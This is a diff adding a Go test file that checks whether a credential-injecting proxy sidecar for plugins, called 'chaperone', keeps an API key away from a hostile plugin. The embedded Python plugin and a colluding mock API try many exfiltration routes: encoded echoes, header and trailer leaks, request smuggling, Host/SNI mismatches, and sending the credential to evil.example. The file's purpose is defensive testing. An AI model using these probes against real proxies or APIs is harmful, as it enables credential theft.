@@ -1,0 +1,373 @@
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chaperone-proxy/chaperone/internal/testenv"
+)
+
+// canary is the credential that nobody but the API is to see.
+const canary = "Canary+7f3a/91c2=e4d5"
+
+// spellings are the ways in which an API that helps the plugin writes it.
+func spellings(secret string) map[string]string {
+	wide := func(low bool) string {
+		var out []byte
+		for _, b := range []byte(secret) {
+			if low {
+				out = append(out, b, 0)
+			} else {
+				out = append(out, 0, b)
+			}
+		}
+		return string(out)
+	}
+	each := func(format string) string {
+		var out strings.Builder
+		for _, b := range []byte(secret) {
+			fmt.Fprintf(&out, format, b)
+		}
+		return out.String()
+	}
+	b64 := func(prefix string) string { return base64.StdEncoding.EncodeToString([]byte(prefix + secret + "tail")) }
+	return map[string]string{
+		"raw": secret, "base64": b64(""), "base64-1": b64("x"), "base64-2": b64("xy"),
+		"base64url": base64.RawURLEncoding.EncodeToString([]byte(secret)), "hex": hex.EncodeToString([]byte(secret)),
+		"HEX": strings.ToUpper(hex.EncodeToString([]byte(secret))), "query": url.QueryEscape(secret), "percent": each("%%%02x"),
+		"json": strings.ReplaceAll(secret, "/", `\/`), "unicode": each(`\u%04x`), "html": strings.ReplaceAll(secret, "+", "&#43;"),
+		"mustache": strings.NewReplacer("/", "&#x2F;", "=", "&#x3D;").Replace(secret), "handlebars": strings.ReplaceAll(secret, "=", "&#x3D;"),
+		"entities": each("&#%d;"), "utf16le": wide(true), "utf16be": wide(false),
+	}
+}
+
+// holds reports in which spelling a text holds the secret.
+func holds(text []byte, secret string) string {
+	for name, spelling := range spellings(secret) {
+		if strings.HasPrefix(name, "base64-") || name == "base64" { // what is left of its ends depends on the neighbours
+			spelling = spelling[4 : len(spelling)-8]
+		}
+		if bytes.Contains(text, []byte(spelling)) {
+			return name
+		}
+	}
+	return ""
+}
+
+// accomplice is an API that does what it can to give the credential to the plugin.
+type accomplice struct {
+	server *httptest.Server
+	secret func(*http.Request) string // as it arrived
+
+	mu       sync.Mutex
+	received []string // requests: line, head and body
+}
+
+func newAccomplice(t *testing.T, w *world, name string, secret func(*http.Request) string) *accomplice {
+	t.Helper()
+	a := &accomplice{secret: secret}
+	a.server = httptest.NewUnstartedServer(http.HandlerFunc(a.serve))
+	a.server.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(w.api.CA.Issue(name))(t)}}
+	a.server.Config.ErrorLog = log.New(io.Discard, "", 0)
+	a.server.StartTLS()
+	t.Cleanup(a.server.Close)
+	return a
+}
+
+func (a *accomplice) port() string { return a.server.URL[strings.LastIndex(a.server.URL, ":")+1:] }
+
+func (a *accomplice) all() string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return strings.Join(a.received, "\n")
+}
+
+func (a *accomplice) serve(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body) // what is cut short is looked at all the same
+	a.mu.Lock()
+	a.received = append(a.received, fmt.Sprint(r.Method, " ", r.Host, " ", r.RequestURI, " ", r.Header, " ", string(body)))
+	a.mu.Unlock()
+	secret := a.secret(r)
+	way := strings.TrimPrefix(r.URL.Path, "/v1/")
+	w.Header().Set("Content-Type", "application/json")
+	if spelling, ok := spellings(secret)[way]; ok {
+		_, _ = io.WriteString(w, `{"you sent":"`+spelling+`"}`)
+		return
+	}
+	flush := func() { _ = http.NewResponseController(w).Flush() }
+	switch way {
+	case "headers":
+		w.Header().Set("X-Echo", secret)
+		w.Header().Set("Www-Authenticate", `Bearer realm="`+secret+`"`)
+		w.Header().Set("Location", "https://evil.example/?"+url.QueryEscape(secret))
+		http.SetCookie(w, &http.Cookie{Name: "echo", Value: base64.StdEncoding.EncodeToString([]byte(secret))})
+		w.WriteHeader(http.StatusFound)
+	case "early":
+		w.Header().Set("Link", "<"+secret+">")
+		w.WriteHeader(http.StatusEarlyHints)
+		w.WriteHeader(http.StatusOK)
+	case "trailer":
+		w.Header().Set("Trailer", "X-Echo")
+		_, _ = io.WriteString(w, "{}")
+		w.Header().Set("X-Echo", secret)
+	case "error":
+		http.Error(w, "bad token "+secret, http.StatusInternalServerError)
+	case "pieces":
+		for _, b := range []byte("data: " + secret + "\n\n") {
+			_, _ = w.Write([]byte{b})
+			flush()
+		}
+	case "gzip":
+		w.Header().Set("Content-Encoding", "gzip")
+		z := gzip.NewWriter(w)
+		_, _ = io.WriteString(z, secret)
+		_ = z.Close()
+	case "deflate":
+		w.Header().Set("Content-Encoding", "deflate")
+		z := zlib.NewWriter(w)
+		_, _ = io.WriteString(z, secret)
+		_ = z.Close()
+	case "range":
+		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(secret))
+	default:
+		_, _ = fmt.Fprintf(w, "{%q: %q}", r.RequestURI, fmt.Sprint(r.Header))
+	}
+}
+
+// hostile is the plugin: it prints what it got of each attempt, in base64.
+const hostile = `
+import base64, gzip, os, socket, ssl, sys, time
+from urllib.parse import urlsplit
+good, evil, length = sys.argv[1], sys.argv[2], int(sys.argv[3])
+standin = os.environ.get("STAND_IN", "none")
+proxy = urlsplit(os.environ["HTTPS_PROXY"])
+token = ""
+if proxy.username:
+    token = "Proxy-Authorization: Basic " + base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode() + "\r\n"
+tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+tls.check_hostname = False
+def all_of(s):
+    got = b""
+    try:
+        while piece := s.recv(65536): got += piece
+    except OSError: pass
+    return got
+def ask(raw, to=good, sni=None):
+    s = socket.create_connection((proxy.hostname, proxy.port), 10)
+    try:
+        s.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n{token}\r\n".encode())
+        head = b""
+        while b"\r\n\r\n" not in head:
+            piece = s.recv(1)
+            if not piece: return head
+            head += piece
+        if b" 200 " not in head: return head
+        t = tls.wrap_socket(s, server_hostname=sni or to.split(":")[0])
+        t.settimeout(5)
+        t.sendall(raw if isinstance(raw, bytes) else raw.encode())
+        return head + all_of(t)
+    except (OSError, ssl.SSLError) as e: return str(e).encode()
+    finally: s.close()
+def get(path, *heads, host=good, method="GET", body=""):
+    heads = "".join(h + "\r\n" for h in heads)
+    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{heads}\r\n{body}"
+def tell(name, got): print("got", name, base64.b64encode(got).decode(), flush=True)
+for way in sys.argv[4:]:
+    tell(way, ask(get("/v1/" + way, "Accept-Encoding: gzip, deflate, br, zstd", "TE: trailers")))
+tell("slices", b"".join(ask(get("/v1/range", f"Range: bytes={i}-{i}")).split(b"\r\n\r\n", 2)[-1] for i in range(length)))
+for name, raw, to, sni in [
+    ("tunnel good, host evil", get("/v1/raw", host=evil), good, None),
+    ("tunnel evil, host good", get("/v1/raw", host=good), evil, None),
+    ("tunnel evil, SNI good", get("/v1/raw", host=good), evil, good.split(":")[0]),
+    ("tunnel good, SNI evil", get("/v1/raw", host=evil), good, evil.split(":")[0]),
+    ("absolute evil", get("https://" + evil + "/v1/raw", host=good), good, None),
+    ("two hosts", get("/v1/raw", "Host: " + evil), good, None),
+    ("userinfo", get("/v1/raw", host=good.split(":")[0] + "@" + evil), good, None),
+    ("dot", get("/v1/raw", host=evil.replace(":", ".:")), evil, None),
+    ("both lengths", get("/v1/raw", "Content-Length: 4", "Transfer-Encoding: chunked", method="POST", body="0\r\n\r\nGET /v1/raw HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), good, None),
+    ("forwarded", get("/v1/raw", "X-Forwarded-Host: " + evil, "X-Original-URL: /v1/raw", "Forwarded: host=" + evil), good, None),
+]: tell(name, ask(raw, to, sni))
+tell("hop", ask(get("/v1/all?hop", "Connection: Authorization, Cookie", "Keep-Alive: authorization")))
+tell("own", ask(get("/v1/all?own", "Authorization: Bearer mine", "authorization: Basic bWluZQ==", "Cookie: sid=mine; other=1")))
+if standin != "none":
+    half = len(standin) // 2
+    chunks = "".join(f"{len(c):x}\r\n{c}\r\n" for c in (standin[:half], standin[half:])) + "0\r\n\r\n"
+    zipped = gzip.compress(standin.encode())
+    for name, raw in [
+        ("path", get("/v1/" + standin)), ("query", get("/v1/all?k=" + standin)), ("header", get("/v1/all", "X-Note: " + standin)),
+        ("encoded", get("/v1/all", "X-Note: " + base64.b64encode(standin.encode()).decode())),
+        ("body", get("/v1/all", f"Content-Length: {len(standin)}", method="POST", body=standin)),
+        ("chunks", get("/v1/all", "Transfer-Encoding: chunked", method="POST", body=chunks)),
+        ("gzip body", get("/v1/all", "Content-Encoding: gzip", f"Content-Length: {len(zipped)}", method="POST").encode() + zipped),
+        ("elsewhere", None),
+    ]:
+        tell("stand-in in " + name, ask(raw) if raw else ask(get("/v1/all", "Authorization: Bearer " + standin, host=evil), evil))
+print("done", flush=True)
+time.sleep(60)
+`
+
+// TestHostilePlugin has a plugin and an API work together to get the credential
+// out, for each way to inject one, and looks at what the plugin, another host,
+// the log, the metrics and the status got.
+func TestHostilePlugin(t *testing.T) {
+	bearer := func(r *http.Request) string { return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") }
+	for name, c := range map[string]struct {
+		inject  string
+		secret  string
+		arrived func(*http.Request) string
+	}{
+		"header": {`{header: Authorization, value: "Bearer {api_key}"}`, canary, bearer},
+		"query":  {`{query: key, value: "{api_key}"}`, canary, func(r *http.Request) string { return r.URL.Query().Get("key") }},
+		"cookie": {`{cookie: sid, value: "{api_key}"}`, canary, func(r *http.Request) string {
+			c, err := r.Cookie("sid")
+			if err != nil {
+				return ""
+			}
+			return c.Value
+		}},
+		"basic": {`{basic: {username: weather, password: "{api_key}"}}`, canary, func(r *http.Request) string {
+			_, password, _ := r.BasicAuth()
+			return password
+		}},
+	} {
+		t.Run(name, func(t *testing.T) { attack(t, c.inject, c.secret, c.arrived) })
+	}
+}
+
+func attack(t *testing.T, inject, secret string, arrived func(*http.Request) string) {
+	w := newWorld(t, "off", "")
+	good := newAccomplice(t, w, apiHost, arrived)
+	evil := newAccomplice(t, w, "evil.example", arrived)
+	testenv.Must(t, w.vault.PutSecret(t.Context(), "weather", map[string]any{"api_key": secret}))
+	free := testenv.MustGet(net.Listen("tcp", "127.0.0.1:0"))(t)
+	metrics := free.Addr().String()
+	testenv.Must(t, free.Close())
+	w.write("sidecar.yaml", strings.NewReplacer(
+		"dns: {hosts: {", "dns: {hosts: {evil.example: [127.0.0.1], ", `metrics: "127.0.0.1:0"`, "metrics: "+strconv.Quote(metrics),
+	).Replace(w.read("sidecar.yaml")))
+	to := func(name string, a *accomplice) string {
+		return fmt.Sprintf("to: {hosts: [%s], ports: [%s], addresses: [127.0.0.1/32], tls: {caFile: api-ca.pem}}, methods: [GET, POST], paths: [\"/v1/*\"]", name, a.port())
+	}
+	w.write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
+kind: PluginGrant
+metadata: {name: weather}
+spec:
+  plugin: weather
+  notAfter: %s
+  rules:
+  - {id: api, reason: Tests, %s, credential: key}
+  - {id: evil, reason: Tests, %s}
+  credentials:
+  - name: key
+    vault: {path: secret/data/weather}
+    inject: %s
+    placeholder: {env: STAND_IN, like: "wk_{24}"}
+`, time.Now().Add(time.Hour).UTC().Format(time.RFC3339), to(apiHost, good), to("evil.example", evil), inject))
+	args := []string{"python3", "-c", hostile, apiHost + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(len(secret))}
+	for way := range spellings(secret) {
+		args = append(args, way)
+	}
+	args = append(args, "headers", "early", "trailer", "error", "pieces", "gzip", "deflate", "range", "all")
+	b := w.start(args...)
+	eventually(t, "the plugin has tried everything", func() (bool, bool) { return true, strings.Contains(b.output.String(), "\ndone") })
+	tried := 0
+	for line := range strings.Lines(b.output.String()) {
+		rest, ok := strings.CutPrefix(line, "got ")
+		if !ok {
+			continue
+		}
+		tried++
+		at := strings.LastIndex(strings.TrimSpace(rest), " ")
+		attempt := rest[:max(at, 0)]
+		got := testenv.MustGet(base64.StdEncoding.DecodeString(strings.TrimSpace(rest[at+1:])))(t)
+		if how := holds(unpacked(got), secret); how != "" {
+			t.Errorf("%s: the plugin got the credential, spelled %s:\n%s", attempt, how, got)
+		}
+		if strings.HasPrefix(attempt, "stand-in in ") && !bytes.Contains(got, []byte("credential_misplaced")) {
+			t.Errorf("%s is not refused as that:\n%s", attempt, got)
+		}
+	}
+	if tried < 40 {
+		t.Errorf("only %d attempts", tried)
+	}
+	looked := map[string]string{
+		"the other host": evil.all(), "the log": w.read("state/audit.jsonl"), "status": fmt.Sprint(w.ready()),
+		"usage": w.chaperone("usage", "--config", w.file("sidecar.yaml"), "--output", "json").stdout,
+	}
+	for line := range strings.Lines(b.output.String()) {
+		if !strings.HasPrefix(line, "got ") {
+			looked["stderr"] += line
+		}
+	}
+	looked["metrics"] = metricsOf(t, metrics)
+	for where, text := range looked {
+		if how := holds([]byte(text), secret); how != "" {
+			t.Errorf("%s has the credential, spelled %s", where, how)
+		}
+	}
+	received := good.all()
+	for _, want := range []string{"?hop", "?own"} {
+		at := strings.Index(received, want)
+		if at < 0 {
+			t.Errorf("%s did not arrive", want)
+			continue
+		}
+		line, _, _ := strings.Cut(received[at:], "\n")
+		if holds([]byte(line), secret) == "" && !strings.Contains(line, base64.StdEncoding.EncodeToString([]byte("weather:"+secret))) {
+			t.Errorf("%s arrived without the credential: %s", want, line)
+		}
+		if strings.Contains(inject, "header") && strings.Contains(line, "mine") && !strings.Contains(line, "sid=mine") {
+			t.Errorf("the plugin's own arrived: %s", line)
+		}
+	}
+	if strings.Contains(received+evil.all(), "wk_") {
+		t.Errorf("a stand-in arrived: %s", received)
+	}
+}
+
+// unpacked returns an answer and, where its body is compressed, that too.
+func unpacked(answer []byte) []byte {
+	out := answer
+	for _, magic := range []string{"\x1f\x8b", "\x78\x9c"} {
+		at := bytes.Index(answer, []byte(magic))
+		if at < 0 {
+			continue
+		}
+		var r io.ReadCloser
+		var err error
+		if magic[0] == 0x1f {
+			r, err = gzip.NewReader(bytes.NewReader(answer[at:]))
+		} else {
+			r, err = zlib.NewReader(bytes.NewReader(answer[at:]))
+		}
+		if err == nil {
+			plain, _ := io.ReadAll(r)
+			out = append(out, plain...)
+		}
+	}
+	return out
+}
+
+// metricsOf returns what the sidecar shows as metrics.
+func metricsOf(t *testing.T, address string) string {
+	t.Helper()
+	resp := testenv.MustGet(http.Get("http://" + address + "/metrics"))(t)
+	defer resp.Body.Close()
+	return string(testenv.MustGet(io.ReadAll(resp.Body))(t))
+}
